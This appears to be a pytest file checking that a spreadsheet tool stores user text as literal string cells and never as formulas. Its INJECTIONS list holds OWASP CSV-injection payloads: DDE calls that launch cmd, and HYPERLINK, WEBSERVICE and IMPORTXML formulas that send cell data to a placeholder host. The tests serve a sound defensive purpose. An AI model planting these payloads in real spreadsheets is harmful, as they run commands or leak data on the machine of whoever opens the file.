"""Spreadsheets the tool writes hold text from users as text, never as a formula.

``import`` (CSV rows into a workbook copy) and ``template`` (a blank workbook built from
indicator sets) are the commands that write spreadsheets; the tool writes no CSV file.
Every entry of OWASP's CSV injection list (cells starting with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return: DDE calls, ``HYPERLINK``, ``WEBSERVICE``…) goes into every
text column ``import`` fills and every text ``template`` takes from a set. Each must come
out as a string cell (openpyxl ``data_type`` ``s``) holding exactly the text, the sheet
XML must hold no ``<f>`` (formula) element, and LibreOffice, opening the workbook and
saving every sheet as CSV (cell values, not formulas), must give back the literal text.
No apostrophe is added: an Indonesian coordinate starts with ``-`` and must stay exact.
A control workbook with real formulas shows each of the three checks catching one.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from openpyxl import Workbook, load_workbook

from smartserang.author.safe_text import FORMULA_TRIGGERS, starts_formula

from builders import require_tool, smartserang, write_workbook

INJECTIONS = (
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=HYPERLINK("http://evil.invalid/?leak="&A1&A2,"Error: please click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.invalid/?"&A1)',
    '=IMPORTXML(CONCAT("http://evil.invalid/?v=",CONCATENATE(A2:E2)),"//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "=1+1",
    "+1+1",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "-6.1843, 106.0927",
    "#N/A",
    "=",
)
"""OWASP's CSV injection examples, the bare triggers, and two texts a spreadsheet would
misread: a coordinate south of the equator and an error literal."""
IMPORTED = tuple(t for t in INJECTIONS if t != "#N/A")
"""What ``import`` takes: it refuses "#N/A" as a spreadsheet error, like the reader."""
BASE_PROFIL: list[list[Any]] = [
    ["Instansi", "Pemerintah Kota Serang"],
    ["Jenis Instansi", "kota"],
    ["Tahun", 2025],
]


def libreoffice_csv(workbooks: list[Path], folder: Path) -> dict[tuple[str, str], list[list[str]]]:
    """Every sheet of ``workbooks`` as LibreOffice saves it to CSV: {(file stem, sheet): rows}.

    One LibreOffice run for all files; the filter options ask for UTF-8, cell values as
    stored (not as formatted, not formulas) and every sheet (the last option, -1).
    """
    out = folder / "csv"
    soffice = require_tool("soffice", "LibreOffice (soffice)")
    options = "44,34,76,1,,0,false,true,false,false,false,-1"
    run = subprocess.run(
        [soffice, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless",
         "--convert-to", f"csv:Text - txt - csv (StarCalc):{options}", "--outdir", str(out),
         *map(str, workbooks)],
        capture_output=True, text=True, check=False, timeout=240,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    sheets = {}
    for book in workbooks:
        for path in out.glob(f"{book.stem}-*.csv"):
            text = path.read_text(encoding="utf-8")
            sheet = path.stem[len(book.stem) + 1 :]
            sheets[(book.stem, sheet)] = list(csv.reader(io.StringIO(text, newline="")))
    assert {stem for stem, _ in sheets} == {b.stem for b in workbooks}, run.stdout
    return sheets


def formula_elements(workbook: Path) -> dict[str, int]:
    """The number of ``<f>`` (formula) elements in each worksheet's XML."""
    with zipfile.ZipFile(workbook) as archive:
        return {
            name: len(re.findall(rb"<(?:\w+:)?f[ >/]", archive.read(name)))
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        }


def typed_cells(workbook: Path, texts: set[str]) -> list[tuple[str, str, Any, str]]:
    """(sheet, coordinate, value, data type) of every cell that holds one of ``texts`` or
    is not a plain value (a formula or an error)."""
    found = []
    book = load_workbook(workbook)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in texts or cell.data_type in {"f", "e"}:
                    found.append((ws.title, cell.coordinate, cell.value, cell.data_type))
    return found


def _inert(text: str) -> str:
    """How a written text reads back: the importer trims surrounding white space."""
    return text.strip()


# ------------------------------------------------------------------------------ import


@pytest.fixture(scope="module")
def imported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workbook ``import`` filled from a CSV holding every injection in every text column
    of Fasilitas (one register: the writer is the same for all)."""
    folder = tmp_path_factory.mktemp("import")
    into = write_workbook(
        folder / "inventory.xlsx",
        {"Profil": BASE_PROFIL, "Fasilitas": [["Nama", "Jenis"], ["Menara", "cctv"]]},
    )
    columns = ("nama", "kecamatan", "koordinat", "pengguna")
    lines = io.StringIO(newline="")
    writer = csv.writer(lines, lineterminator="\r\n")
    writer.writerow(columns)
    for text in IMPORTED:
        # The list column splits at commas: the coordinate's comma becomes a semicolon.
        writer.writerow([text, text, text, text.replace(",", ";")])
    data = folder / "data.csv"
    data.write_text(lines.getvalue(), encoding="utf-8")
    mapping = "Nama=nama,Kecamatan=kecamatan,Koordinat=koordinat"
    out = folder / "imported.xlsx"
    run = smartserang(
        "import", data, "--into", into, "--sheet", "Fasilitas", "--map", mapping,
        "--map", "Perangkat Daerah Pengguna=pengguna", "--set-column", "Jenis=cctv", "-o", out,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    return out


def test_import_stores_every_injection_as_a_string_cell(imported: Path) -> None:
    """Each injection in each of the four text columns is a string cell with the text."""
    sheet = load_workbook(imported)["Fasilitas"]
    header = [c.value for c in next(sheet.iter_rows())]
    rows = list(sheet.iter_rows(min_row=3))
    assert len(rows) == len(IMPORTED)
    for text, row in zip(IMPORTED, rows, strict=True):
        cells = {header[c.column - 1]: c for c in row if c.value is not None}
        for name in ("Nama", "Kecamatan", "Koordinat"):
            cell = cells[name]
            assert (cell.value, cell.data_type) == (_inert(text), "s"), (name, text)
            assert cell.quotePrefix == _inert(text).startswith(FORMULA_TRIGGERS)
        units = cells["Perangkat Daerah Pengguna"]
        assert (units.value, units.data_type) == (_inert(text.replace(",", ";")), "s")
    assert typed_cells(imported, set()) == []  # no formula or error cell anywhere


def test_import_writes_no_formula_element(imported: Path) -> None:
    """The sheet XML of the imported workbook holds no <f> element at all."""
    counts = formula_elements(imported)
    assert counts
    assert set(counts.values()) == {0}, counts


# ---------------------------------------------------------------------------- template


@pytest.fixture(scope="module")
def templated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """``template`` for a set whose ids, names, group names, criteria and title are the
    injections (the set's texts reach Penilaian, the lists sheet, notes and instructions)."""
    folder = tmp_path_factory.mktemp("template")
    texts = [t for t in INJECTIONS if t.strip() and t.strip() != "="]
    ids: list[str] = []
    for number, text in enumerate(texts):
        # Ids must be unique once trimmed: "=1+1" and "\t=1+1" get a plain one.
        ids.append(_inert(text) if _inert(text) not in ids else f"I{number}")
    indicators = [
        {
            "id": identifier,
            "name": text,
            "short_name": text,
            "weight": 1,
            "criteria": dict.fromkeys(range(1, 6), text),
        }
        for identifier, text in zip(ids, texts, strict=True)
    ]
    hostile = {
        "id": "formula",
        "version": texts[0],
        "title": texts[2],
        "weighting": "proportional",
        "scales": {"s": {"name": texts[1], "levels": {n: texts[n] for n in range(1, 6)}}},
        "bands": [{"label": texts[3]}],
        "groups": [{"id": "=G1", "name": texts[4], "weight": 1, "scale": "s",
                    "indicators": indicators}],
    }  # fmt: skip
    path = folder / "=formula.yaml"
    path.write_text(yaml.safe_dump(hostile, allow_unicode=True), encoding="utf-8")
    out = folder / "templated.xlsx"
    run = smartserang("template", "--set", path, "-o", out)
    assert run.returncode == 0, run.stderr
    return out


def test_template_stores_every_set_text_as_a_string_cell(templated: Path) -> None:
    """Every cell that starts like a formula is a string cell, and every set text reached
    one (Penilaian's ids and names, the lists sheet); the set loader reads a carriage
    return as a line break."""
    names = {t.replace("\r", "\n") for t in INJECTIONS if t.strip() and t.strip() != "="}
    book = load_workbook(templated)
    cells = [
        (ws.title, cell.coordinate, cell.value, cell.data_type)
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and (starts_formula(cell.value) or cell.value in names)
    ]
    assert {value for _, _, value, _ in cells} >= names
    assert [c for c in cells if c[3] != "s"] == []
    assert typed_cells(templated, set()) == []  # no formula or error cell anywhere
    ids = [c for c in cells if c[0] == "Penilaian" and c[1].startswith("A")]
    assert len(ids) >= 5


def test_template_writes_no_formula_element(templated: Path) -> None:
    """The template's sheet XML holds no <f> element at all."""
    counts = formula_elements(templated)
    assert counts
    assert set(counts.values()) == {0}, counts


# --------------------------------------------------------------------------- LibreOffice


def _control(folder: Path) -> Path:
    """A workbook with what the tool must never write: openpyxl's default for "=1+1"."""
    book = Workbook()
    ws = book.active
    ws.title = "Control"
    ws["A1"] = "=1+1"
    ws["A2"] = '=CONCATENATE("a","b")'
    path = folder / "control.xlsx"
    book.save(path)
    return path


def test_libreoffice_reads_back_the_literal_text(
    imported: Path, templated: Path, tmp_path: Path
) -> None:
    """Opened by LibreOffice and saved as CSV, every injection is its own literal text in
    the imported Fasilitas sheet and in the template's Penilaian; the control's formulas
    give their results, so a formula would have shown."""
    control = _control(tmp_path)
    sheets = libreoffice_csv([imported, templated, control], tmp_path)
    fasilitas = sheets[(imported.stem, "Fasilitas")]
    header = fasilitas[0]
    for text, row in zip(IMPORTED, fasilitas[2:], strict=True):
        for name in ("Nama", "Kecamatan", "Koordinat"):
            assert row[header.index(name)] == _inert(text), (name, text)
    penilaian = sheets[(templated.stem, "Penilaian")]
    shown = {cell for row in penilaian for cell in row}
    assert {t.replace("\r", "\n") for t in INJECTIONS if t.strip() and t.strip() != "="} <= shown
    assert sheets[(control.stem, "Control")] == [["2"], ["ab"]]
    formulas = [("Control", "A1", "=1+1", "f"), ("Control", "A2", '=CONCATENATE("a","b")', "f")]
    assert typed_cells(control, set()) == formulas
    assert formula_elements(control) == {"xl/worksheets/sheet1.xml": 2}
